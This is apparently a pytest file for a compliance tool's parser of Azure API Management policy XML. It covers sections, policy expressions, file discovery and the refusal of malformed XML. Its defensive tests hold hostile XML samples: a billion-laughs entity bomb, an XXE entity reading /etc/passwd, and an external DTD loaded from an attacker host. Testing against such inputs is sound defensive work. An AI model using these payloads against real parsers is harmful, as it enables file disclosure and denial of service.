"""The API Management policy parser: sections, elements and lines, convenience lists, policy
expressions and named values as Unknown, discovery, and hostile or broken XML."""

from __future__ import annotations

import json
from textwrap import dedent

import pytest

from compliance.model import Unknown, resource_from_json
from compliance.parse import parse_source
from compliance.parse.apim import parse
from compliance.parse.apim.expressions import mask_expressions
from compliance.parse.discover import APIM, classify, discover

POLICY = dedent("""\
    <policies>
      <inbound>
        <base />
        <validate-jwt header-name="Authorization" require-scheme="Bearer">
          <openid-config url="https://login.example/.well-known/openid-configuration" />
          <audiences>
            <audience>api://orders</audience>
          </audiences>
        </validate-jwt>
        <choose>
          <when condition="@(context.Request.Method == "POST")">
            <rate-limit-by-key calls="10" renewal-period="60" counter-key="@(context.Request.IpAddress)" />
          </when>
        </choose>
        <cors allow-credentials="true">
          <allowed-origins>
            <origin>*</origin>
          </allowed-origins>
        </cors>
        <ip-filter action="allow">
          <address>10.0.0.1</address>
          <address-range from="10.1.0.0" to="10.1.255.255" />
        </ip-filter>
      </inbound>
      <backend>
        <set-backend-service base-url="{{orders-backend}}" />
        <forward-request />
      </backend>
      <outbound />
    </policies>
""")


def policy(text: str):
    result = parse(text)
    assert not result["errors"], result["errors"]
    (data,) = result["resources"]
    return resource_from_json(data)


def test_resource_identity_and_location():
    resource = policy(POLICY)
    assert (resource.platform, resource.type, resource.name, resource.address) == (
        "apim", "apim_policy", "policy", "policy")
    assert resource.location.file == ""  # the scan fills it in
    assert (resource.location.start_line, resource.location.end_line) == (1, 30)


def test_sections_hold_ordered_elements_with_lines():
    attributes = policy(POLICY).attributes
    assert [e["element"] for e in attributes["inbound"]] == [
        "base", "validate-jwt", "choose", "cors", "ip-filter"]
    jwt = attributes["inbound"][1]
    assert jwt["attributes"] == {"header-name": "Authorization", "require-scheme": "Bearer"}
    assert jwt["line"] == 4
    assert [c["element"] for c in jwt["children"]] == ["openid-config", "audiences"]
    assert jwt["children"][1]["children"][0] == {"element": "audience", "attributes": {},
                                                 "children": [], "text": "api://orders", "line": 7}
    assert attributes["outbound"] == []
    assert attributes["on-error"] is None


def test_sections_say_whether_and_where_base_is():
    sections = policy(POLICY).attributes["sections"]
    assert sections["inbound"] == {"present": True, "line": 2, "base": True, "base_index": 0,
                                   "base_line": 3}
    assert sections["backend"]["base"] is False
    assert sections["on-error"] == {"present": False, "line": None, "base": False,
                                    "base_index": None, "base_line": None}


def test_lines_of_elements_and_summaries():
    lines = policy(POLICY).lines
    assert lines["inbound[1]"] == 4
    assert lines["inbound[2].children[0].children[0]"] == 12
    assert lines["validate_jwt[0]"] == 4
    assert lines["validate_jwt[0].audiences[0]"] == 7
    assert lines["cors[0].allowed_origins"] == 16
    assert lines["ip_filters[0].address_ranges[0]"] == 22
    assert lines["sections.backend"] == 25


def test_convenience_lists():
    attributes = policy(POLICY).attributes
    (jwt,) = attributes["validate_jwt"]
    assert jwt["path"] == "inbound[1]" and jwt["section"] == "inbound"
    assert jwt["require_signed_tokens"] is True and jwt["require_expiration_time"] is True
    assert jwt["audiences"] == ["api://orders"] and jwt["conditional"] is False
    assert jwt["openid_config_urls"] == ["https://login.example/.well-known/openid-configuration"]
    (limit,) = attributes["rate_limits"]
    assert limit["element"] == "rate-limit-by-key" and limit["conditional"] is True
    assert limit["calls"] == "10" and isinstance(limit["counter_key"], Unknown)
    assert limit["path"] == "inbound[2].children[0].children[0]"
    (cors,) = attributes["cors"]
    assert cors["allowed_origins"] == ["*"] and cors["allow_credentials"] is True
    (ip_filter,) = attributes["ip_filters"]
    assert ip_filter["addresses"] == ["10.0.0.1"]
    assert ip_filter["address_ranges"] == [{"from": "10.1.0.0", "to": "10.1.255.255"}]
    (backend,) = attributes["backend_services"]
    assert backend["section"] == "backend"
    assert backend["base_url"] == Unknown("named value {{orders-backend}}")


def test_defaults_of_convenience_booleans():
    attributes = policy('<policies><inbound><cors><allowed-origins><origin>*</origin>'
                        '</allowed-origins></cors><validate-jwt header-name="a" '
                        'require-signed-tokens="False" /></inbound></policies>').attributes
    assert attributes["cors"][0]["allow_credentials"] is False
    assert attributes["validate_jwt"][0]["require_signed_tokens"] is False


def test_policy_expressions_with_raw_quotes_and_generics_are_unknown():
    text = dedent("""\
        <policies>
          <inbound>
            <set-variable name="id" value="@(context.Variables.GetValueOrDefault<string>("id", ""))" />
            <set-header name="X-Token" exists-action="override">
              <value>@(context.Request.Headers.GetValueOrDefault("Authorization","").Split(' ')[1])</value>
            </set-header>
            <set-body>@{
                var body = context.Request.Body.As<JObject>();
                if (body["a"] != null && body["b"] == null) { return "}"; }
                return body.ToString();
            }</set-body>
            <rate-limit calls="5" renewal-period="60" />
          </inbound>
        </policies>
    """)
    inbound = policy(text).attributes["inbound"]
    variable, header, body, limit = inbound
    assert isinstance(variable["attributes"]["value"], Unknown)
    assert 'GetValueOrDefault<string>("id", "")' in variable["attributes"]["value"].reason
    assert isinstance(header["children"][0]["text"], Unknown)
    assert isinstance(body["text"], Unknown)
    assert limit["line"] == 12  # lines after a multi-line expression stay true
    # the expression's text is kept beside the Unknown value, whitespace-normalized
    assert variable["expressions"] == {
        "value": '@(context.Variables.GetValueOrDefault<string>("id", ""))'}
    assert "expressions" not in limit and "expressions" not in body  # text is not an attribute


def test_long_expressions_are_kept_whole():
    condition = "@(" + " || ".join(f'context.Request.Headers.ContainsKey("X-{i}")' for i in range(6)) + ")"
    inbound = policy(f'<policies><inbound><choose><when condition="{condition.replace(chr(34), "&quot;")}">'
                     "<set-header name=\"a\" /></when></choose></inbound></policies>").attributes["inbound"]
    when = inbound[0]["children"][0]
    assert when["expressions"]["condition"] == condition
    assert when["attributes"]["condition"].reason.endswith("...")  # the reason is shortened


def test_escaped_expressions_and_cdata_are_unknown_too():
    text = ('<policies><inbound><set-header name="a" exists-action="override">'
            '<value>@(context.Request.Headers.GetValueOrDefault(&quot;x&quot;))</value></set-header>'
            '<set-body><![CDATA[@{ return "<a>"; }]]></set-body></inbound></policies>')
    inbound = policy(text).attributes["inbound"]
    assert isinstance(inbound[0]["children"][0]["text"], Unknown)
    assert isinstance(inbound[1]["text"], Unknown)


def test_expression_masking_keeps_line_count_and_leaves_plain_text():
    text = 'a @(x("\n)")) b\n<c d="@{ if (a < b) { return 1; } }" e="plain" />'
    masked, expressions = mask_expressions(text)
    assert masked.count("\n") == text.count("\n")
    assert expressions == ['@(x("\n)"))', '@{ if (a < b) { return 1; } }']
    assert 'e="plain"' in masked


def test_fragment_documents():
    result = parse("<fragment>\n  <rate-limit calls=\"5\" renewal-period=\"60\" />\n</fragment>")
    (data,) = result["resources"]
    fragment = resource_from_json(data)
    assert fragment.type == "apim_policy_fragment" and fragment.address == "fragment"
    assert fragment.attributes["elements"][0]["element"] == "rate-limit"
    assert fragment.attributes["rate_limits"][0]["path"] == "elements[0]"
    assert fragment.lines["rate_limits[0]"] == 2


def test_output_is_plain_json_and_independent_of_file_names():
    result = parse(POLICY)
    assert json.loads(json.dumps(result)) == result
    assert parse_source(APIM, POLICY) == result


@pytest.mark.parametrize("text, line, words", [
    ("<policies>\n  <inbound>\n</policies>", 3, "invalid XML"),
    ("<policies><inbound>&undefined;</inbound></policies>", 1, "invalid XML"),
    ("<project>\n</project>", 1, "not an API Management policy"),
    ("   \n", None, "empty"),
])
def test_broken_documents_are_error_entries(text, line, words):
    result = parse(text)
    assert result["resources"] == []
    (error,) = result["errors"]
    assert error["line"] == line and words in error["message"]


BILLION_LAUGHS = dedent("""\
    <?xml version="1.0"?>
    <!DOCTYPE lolz [
      <!ENTITY lol "lol">
      <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
      <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
    ]>
    <policies><inbound>&lol3;</inbound></policies>
""")
XXE = dedent("""\
    <?xml version="1.0"?>
    <!DOCTYPE policies [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
    <policies><inbound><set-body>&xxe;</set-body></inbound></policies>
""")
EXTERNAL_DTD = '<!DOCTYPE policies SYSTEM "http://attacker.example/p.dtd">\n<policies />'


@pytest.mark.parametrize("text", [BILLION_LAUGHS, XXE, EXTERNAL_DTD])
def test_entities_and_dtds_are_refused(text):
    result = parse(text)
    assert result["resources"] == []
    (error,) = result["errors"]
    assert "DTD" in error["message"] and error["line"]
    assert classify("policy.xml", text.encode()) == APIM  # reported, not ignored


def test_deep_nesting_is_an_error_entry():
    text = "<policies><inbound>" + "<retry>" * 200 + "</retry>" * 200 + "</inbound></policies>"
    result = parse_source(APIM, text)
    assert result["resources"] == [] and "nest" in result["errors"][0]["message"]


@pytest.mark.parametrize("head, kind", [
    (b"<policies>\n", APIM),
    (b"\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- exported -->\n<policies>", APIM),
    (b"<fragment>\n<base /></fragment>", APIM),
    (b"<project xmlns=\"http://maven.apache.org/POM/4.0.0\"></project>", None),
    (b"<policiesx/>", None),
    (b"<configuration><policies /></configuration>", None),
])
def test_classification_of_xml_files(head, kind):
    assert classify("x.xml", head) == kind


def test_discovery_reads_policy_files_and_ignores_other_xml(tmp_path):
    (tmp_path / "apis" / "orders").mkdir(parents=True)
    (tmp_path / "apis" / "orders" / "policy.xml").write_text(POLICY)
    (tmp_path / "pom.xml").write_text("<project></project>")
    found = discover([tmp_path])
    assert [(f.relpath, f.kind) for f in found.files] == [("apis/orders/policy.xml", APIM)]
    assert not found.errors


def test_large_or_utf16_xml_other_than_policies_is_ignored_quietly(tmp_path):
    (tmp_path / "data.xml").write_text("<rows>" + "<row>1</row>" * 2000 + "</rows>")
    (tmp_path / "big-policy.xml").write_text("<policies>" + "<!-- padding -->" * 2000 + "</policies>")
    (tmp_path / "wide.xml").write_bytes("<project></project>".encode("utf-16"))
    found = discover([tmp_path], max_file_size=1024)
    assert found.files == []
    assert [(e.file, e.message.split(" (")[0]) for e in found.errors] == [
        ("big-policy.xml", "file is larger than the size cap")]


def test_a_hostile_policy_file_is_an_error_entry_and_the_scan_goes_on(tmp_path):
    from compliance.catalog.controls import load_catalog
    from compliance.pipeline.scan import ScanOptions, run_scan

    (tmp_path / "bomb.xml").write_text(BILLION_LAUGHS)
    (tmp_path / "xxe.xml").write_text(XXE)
    (tmp_path / "good.xml").write_text(POLICY)
    result = run_scan([tmp_path], load_catalog(), options=ScanOptions(cache_dir=None))
    assert sorted((e.file, e.line) for e in result.errors) == [("bomb.xml", 2), ("xxe.xml", 2)]
    assert [r.location.file for r in result.resources] == ["good.xml"]
    assert result.resources[0].scope == "good.xml"
